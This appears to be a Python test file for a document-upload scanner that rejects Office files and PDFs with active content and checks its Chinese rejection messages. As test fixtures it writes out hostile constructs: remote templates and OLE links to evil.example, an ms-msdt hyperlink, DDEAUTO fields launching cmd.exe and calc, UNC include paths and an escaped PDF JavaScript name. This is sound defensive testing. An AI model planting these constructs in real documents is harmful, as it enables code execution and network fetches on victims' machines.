"""主动内容: Office files and PDFs that reach out or run code when opened are refused, with what to do instead.

Every table pairs the hostile file with the exact Chinese message inspect_upload gives, and the benign files
next to them (a web link, a local template path, a PDF that opens at its first page) pass."""

import pytest

from sanshen.documents.active_content import check_field, field_instructions
from sanshen.documents.errors import DocumentImportError, UploadRejected
from sanshen.documents.upload import inspect_upload

from .files import (
    BENIGN_PDFS,
    CONNECTIONS,
    EXTERNAL_DDE_LINK,
    HOSTILE_PDFS,
    OBFUSCATED_JAVASCRIPT_PDF,
    docx_with_field,
    docx_with_member,
    docx_with_relationship,
    docx_with_template,
    hostile_pdf,
    plain_docx,
    xlsx_with_member,
)

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512
COPY = "请把内容复制到新建的空白文档中另存后再上传。"
UNLINK = "请在 Word 中全选(Ctrl+A)后按 Ctrl+Shift+F9 把域转换为普通文字，另存后再上传。"
REPRINT = "，打开时可能自动执行或夹带文件，已拒绝。请用“打印为 PDF”(WPS“输出为 PDF”)重新生成后再上传。"

HOSTILE_OFFICE = [
    # remote templates and other external relationships fetched on opening
    ("模板.docx", lambda: docx_with_template("https://evil.example/t.dotm"), "external_reference",
     f"文件引用了网络上的模板(https://evil.example/t.dotm)，打开时会自动联网获取，已拒绝。{COPY}"),
    ("模板.docx", lambda: docx_with_template("\\\\evil.example\\share\\t.dotm"), "external_reference",
     f"文件引用了网络上的模板(\\\\evil.example\\share\\t.dotm)，打开时会自动联网获取，已拒绝。{COPY}"),
    ("模板.docx", lambda: docx_with_template("file://evil.example/share/t.dotm"), "external_reference",
     f"文件引用了网络上的模板(file://evil.example/share/t.dotm)，打开时会自动联网获取，已拒绝。{COPY}"),
    ("图片.docx", lambda: docx_with_relationship("image", "http://evil.example/pixel.png"), "external_reference",
     f"文件引用了网络上的图片(http://evil.example/pixel.png)，打开时会自动联网获取，已拒绝。{COPY}"),
    ("对象.docx", lambda: docx_with_relationship("oleObject", "mhtml:http://evil.example/x!x-usc:http://evil.example/x"),
     "external_reference",
     f"文件引用了网络上的OLE 对象(mhtml:http://evil.example/x!x-usc:http://evil.example/x)，打开时会自动联网获取，已拒绝。{COPY}"),
    ("框架.docx", lambda: docx_with_relationship("frame", "https://evil.example/"), "external_reference",
     f"文件引用了网络上的框架(https://evil.example/)，打开时会自动联网获取，已拒绝。{COPY}"),
    ("子文档.docx", lambda: docx_with_relationship("subDocument", "https://evil.example/s.docx"), "external_reference",
     f"文件引用了网络上的子文档(https://evil.example/s.docx)，打开时会自动联网获取，已拒绝。{COPY}"),
    ("链接.docx", lambda: docx_with_relationship("hyperlink", "ms-msdt:/id PCWDiagnostic"), "bad_hyperlink",
     "文件中的超链接“ms-msdt:/id PCWDiagnostic”会调用本机程序，已拒绝。请删除该链接后再上传。"),
    ("内容块.docx", lambda: docx_with_relationship("aFChunk", "afchunk.mht", external=False), "alt_chunk",
     f"文件嵌入了其他格式的内容块(altChunk：afchunk.mht)，打开时由 Word 另行解析，已拒绝。{COPY}"),
    # OLE objects, ActiveX, macros
    ("公式.docx", lambda: docx_with_member("word/embeddings/oleObject1.bin", OLE), "ole_object",
     "文件嵌入了 OLE 对象(word/embeddings/oleObject1.bin)，可能含有可执行代码，已拒绝。请把嵌入的对象(如公式、文件包)改为图片后再上传。"),
    ("旧表.docx", lambda: docx_with_member("word/embeddings/Microsoft_Excel_97-2003_Worksheet.xls", OLE), "ole_object",
     "文件嵌入了 OLE 对象(word/embeddings/Microsoft_Excel_97-2003_Worksheet.xls)，可能含有可执行代码，已拒绝。请把嵌入的对象(如公式、文件包)改为图片后再上传。"),
    ("控件.docx", lambda: docx_with_member("word/activeX/activeX1.xml", b"<ax/>"), "activex",
     "文件含有 ActiveX 控件(word/activeX/activeX1.xml)，可能含有可执行代码，已拒绝。请删除控件后再上传。"),
    ("宏.docx", lambda: docx_with_member("word/vbaProject.bin", OLE), "macro",
     "文件含有宏(VBA 代码)，不允许上传。请另存为不含宏的 .docx 或 .xlsx。"),
    ("宏.docx", lambda: docx_with_member("word/vbaData.xml", b"<wne:vbaSuppData/>"), "macro",
     "文件含有宏(VBA 代码)，不允许上传。请另存为不含宏的 .docx 或 .xlsx。"),
    ("嵌入.docx", lambda: docx_with_member("word/embeddings/Microsoft_Word_Macro-Enabled_Document.docm", plain_docx()), "macro",
     "文件中嵌入的文档 word/embeddings/Microsoft_Word_Macro-Enabled_Document.docm 含有宏，已拒绝。请把嵌入的对象改为图片后再上传。"),
    # an Office file inside passes the same checks
    ("嵌入.docx", lambda: docx_with_member("word/embeddings/Microsoft_Word_Document.docx", docx_with_template("http://evil.example/t")),
     "external_reference",
     "文件中嵌入的文档 word/embeddings/Microsoft_Word_Document.docx 未通过检查：文件引用了网络上的模板(http://evil.example/t)，"
     f"打开时会自动联网获取，已拒绝。{COPY}"),
    # fields that fetch or run
    ("域.docx", lambda: docx_with_field('INCLUDEPICTURE "http://evil.example/a.png" \\d'), "remote_field",
     f"文件含有联网获取内容的域代码(INCLUDEPICTURE http://evil.example/a.png)，打开时会自动联网，已拒绝。{UNLINK}"),
    ("域.docx", lambda: docx_with_field('INCLUDEPICTURE "https://evil.example/a.png" \\* MERGEFORMATINET', simple=True),
     "remote_field", f"文件含有联网获取内容的域代码(INCLUDEPICTURE https://evil.example/a.png)，打开时会自动联网，已拒绝。{UNLINK}"),
    ("域.docx", lambda: docx_with_field('INCLUDETEXT "\\\\\\\\evil\\\\share\\\\a.docx"'), "remote_field",
     f"文件含有联网获取内容的域代码(INCLUDETEXT \\\\evil\\share\\a.docx)，打开时会自动联网，已拒绝。{UNLINK}"),
    ("域.docx", lambda: docx_with_field('LINK Excel.Sheet.12 "https://evil.example/a.xlsx" "Sheet1!R1C1" \\a'), "remote_field",
     f"文件含有联网获取内容的域代码(LINK https://evil.example/a.xlsx)，打开时会自动联网，已拒绝。{UNLINK}"),
    ("域.docx", lambda: docx_with_field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'), "dde",
     f"文件含有 DDE 域代码(DDEAUTO)，打开时可能运行其他程序，已拒绝。{UNLINK}"),
    ("域.docx", lambda: docx_with_field('DDE "cmd" "/c calc" "!A0"', simple=True), "dde",
     f"文件含有 DDE 域代码(DDE)，打开时可能运行其他程序，已拒绝。{UNLINK}"),
    # spreadsheets
    ("表.xlsx", lambda: xlsx_with_member("xl/connections.xml", CONNECTIONS), "data_connection",
     "表格含有外部数据连接(xl/connections.xml)，打开时会联网或读取其他数据源，已拒绝。请在 Excel 中删除数据连接(数据→查询和连接)后另存再上传。"),
    ("表.xlsx", lambda: xlsx_with_member("xl/externalLinks/externalLink1.xml", EXTERNAL_DDE_LINK), "dde",
     "表格含有 DDE/OLE 外部链接(xl/externalLinks/externalLink1.xml)，打开时可能运行其他程序，已拒绝。请在 Excel 中断开链接后另存再上传。"),
    ("表.xlsx", lambda: xlsx_with_member("xl/macrosheets/sheet1.xml", b"<xm:macrosheet/>"), "macro",
     "表格含有 Excel 4.0 宏表(xl/macrosheets/sheet1.xml)，不允许上传。请另存为不含宏的 .xlsx。"),
    ("表.xlsx", lambda: xlsx_with_member("xl/embeddings/oleObject1.bin", OLE), "ole_object",
     "文件嵌入了 OLE 对象(xl/embeddings/oleObject1.bin)，可能含有可执行代码，已拒绝。请把嵌入的对象(如公式、文件包)改为图片后再上传。"),
]

BENIGN_OFFICE = [
    # a template path left by the author's own machine fetches nothing from anywhere else
    ("红头.docx", lambda: docx_with_template("file:///C:\\Users\\admin\\AppData\\Roaming\\Microsoft\\Templates\\红头文件.dotx")),
    ("红头.docx", lambda: docx_with_template("D:\\模板\\公文.dot")),
    ("红头.docx", lambda: docx_with_template("公文.dotx")),
    # links are followed only when someone clicks them
    ("链接.docx", lambda: docx_with_relationship("hyperlink", "https://www.gov.cn/zhengce/")),
    ("链接.docx", lambda: docx_with_relationship("hyperlink", "mailto:zwgk@example.gov.cn")),
    # fields that read nothing from elsewhere, and a picture field with a local path
    ("页码.docx", lambda: docx_with_field("PAGE \\* MERGEFORMAT")),
    ("目录.docx", lambda: docx_with_field('TOC \\o "1-3" \\h \\z \\u')),
    ("图.docx", lambda: docx_with_field('INCLUDEPICTURE "C:\\\\Users\\\\a.png" \\* MERGEFORMAT')),
    ("超链接域.docx", lambda: docx_with_field('HYPERLINK "https://www.gov.cn/"')),
    # a chart's data: an Office file inside that passes the same checks
    ("图表.docx", lambda: docx_with_member("word/embeddings/Microsoft_Excel_Worksheet.xlsx", plain_docx())),
]


@pytest.mark.parametrize("name, make, code, message", HOSTILE_OFFICE)
def test_it_refuses_office_files_that_act_when_opened(name, make, code, message):
    with pytest.raises(UploadRejected) as refused:
        inspect_upload(name, make())
    assert (refused.value.code, refused.value.message) == (code, message)


@pytest.mark.parametrize("name, make", BENIGN_OFFICE)
def test_it_accepts_office_files_that_fetch_nothing(name, make):
    assert inspect_upload(name, make()).kind == "docx"


PDF_LABELS = {
    "open_action_javascript": "脚本(JavaScript)",
    "names_javascript": "脚本(JavaScript)",
    "page_additional_action": "脚本(JavaScript)",
    "launch": "启动外部程序的动作(Launch)",
    "embedded_file": "嵌入文件",
    "file_attachment_annotation": "附件注释(嵌入文件)",
    "rich_media": "富媒体(Flash/视频)",
    "submit_form": "提交表单的动作(SubmitForm)",
    "xfa": "XFA 动态表单",
    "goto_remote": "打开其他文件的动作(GoToR)",
}


@pytest.mark.parametrize("kind", sorted(HOSTILE_PDFS))
def test_it_refuses_pdfs_with_active_content(kind):
    with pytest.raises(UploadRejected) as refused:
        inspect_upload("通知.pdf", hostile_pdf(HOSTILE_PDFS[kind]))
    assert (refused.value.code, refused.value.message) == ("pdf_active_content", f"PDF 含有{PDF_LABELS[kind]}{REPRINT}")


def test_it_reads_names_however_they_are_escaped():
    # /#4Aava#53cript is /JavaScript to every reader; a scan of the raw bytes would miss it.
    assert b"JavaScript" not in OBFUSCATED_JAVASCRIPT_PDF
    with pytest.raises(UploadRejected) as refused:
        inspect_upload("通知.pdf", OBFUSCATED_JAVASCRIPT_PDF)
    assert refused.value.message == f"PDF 含有脚本(JavaScript){REPRINT}"


def test_object_streams_do_not_hide_a_script():
    data = hostile_pdf(HOSTILE_PDFS["open_action_javascript"])
    assert b"/JavaScript" not in data and b"/ObjStm" in data
    with pytest.raises(UploadRejected):
        inspect_upload("通知.pdf", data)


@pytest.mark.parametrize("kind", sorted(BENIGN_PDFS))
def test_it_accepts_pdfs_that_open_at_a_page_or_link_to_the_web(kind):
    assert inspect_upload("通知.pdf", hostile_pdf(BENIGN_PDFS[kind])).pages == 1


@pytest.mark.parametrize(
    "instruction, refused",
    [
        ('INCLUDEPICTURE "http://a.example/x.png"', True),
        ('includepicture "HTTPS://a.example/x.png"', True),
        ('INCLUDEPICTURE "ftp://a.example/x.png"', True),
        ('INCLUDEPICTURE "//a.example/x.png"', True),
        ('INCLUDETEXT "\\\\\\\\host\\\\share\\\\a.docx"', True),
        ('IMPORT "https://a.example/x.wmf"', True),
        ('DATABASE \\c "Provider=SQLOLEDB;Data Source=\\\\\\\\host"', True),
        ("DDE cmd /c calc", True),
        ("DDEAUTO cmd /c calc", True),
        ('INCLUDEPICTURE "C:\\\\pics\\\\a.png"', False),
        ('INCLUDEPICTURE "a.png"', False),
        ('HYPERLINK "https://www.gov.cn/"', False),
        ("PAGE", False),
        ("", False),
    ],
)
def test_field_instructions_that_fetch_or_run_are_refused(instruction, refused):
    if refused:
        with pytest.raises(DocumentImportError):
            check_field(instruction)
    else:
        check_field(instruction)


def test_it_reads_instructions_split_over_runs_and_nested_fields():
    from defusedxml.ElementTree import fromstring

    w = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    xml = (
        f'<w:document xmlns:w="{w}"><w:body><w:p>'
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>IF 1 = 1 "</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDE</w:instrText></w:r>'
        '<w:r><w:instrText>PICTURE "http://a.example/x.png"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>图</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
        '<w:r><w:instrText>"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
        '<w:fldSimple w:instr="PAGE"/></w:p></w:body></w:document>'
    )
    assert field_instructions(fromstring(xml)) == ["PAGE", 'INCLUDEPICTURE "http://a.example/x.png"', 'IF 1 = 1 ""']
